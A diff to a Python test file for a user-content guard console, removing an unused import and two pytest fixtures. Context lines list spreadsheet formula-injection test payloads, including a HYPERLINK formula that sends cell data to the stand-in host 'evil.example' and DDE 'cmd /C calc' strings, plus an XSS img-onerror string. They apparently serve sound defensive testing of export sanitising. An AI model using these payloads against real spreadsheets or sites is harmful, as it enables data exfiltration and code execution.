@@ -26,7 +26,7 @@ from starlette.routing import Mount
 from starlette.testclient import TestClient
 from starlette.types import ASGIApp, Message
 
-from tests.console.conftest import PASSWORD, SECRET, Filled, fill, login
+from tests.console.conftest import PASSWORD, SECRET, Filled, login
 from tests.console.helpers import mounted, signed_in, token
 from ugc_guard.console import UpstreamAuth, console_app
 from ugc_guard.console.app import SECURITY_HEADERS
@@ -42,17 +42,6 @@ FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open").jpg', "+cmd|' /C cal
             "@SUM(1+1)*cmd|' /C calc'!A0.jpg", "\t=1+1.jpg", "\r=1+1.jpg"]
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 HOSTILE_SUBJECT = '"><img src=x onerror=alert(5)>&format=csv'
-
-
-@pytest.fixture
-def console_policy(make_policy: Callable[..., Policy], monkeypatch: pytest.MonkeyPatch) -> Policy:
-    monkeypatch.setenv("UGC_GUARD_SECRET", SECRET)
-    return make_policy()
-
-
-@pytest.fixture
-def filled(console_policy: Policy, sqlite_url: str) -> Filled:
-    return fill(sqlite_url, console_policy)
 
 
 @pytest.fixture
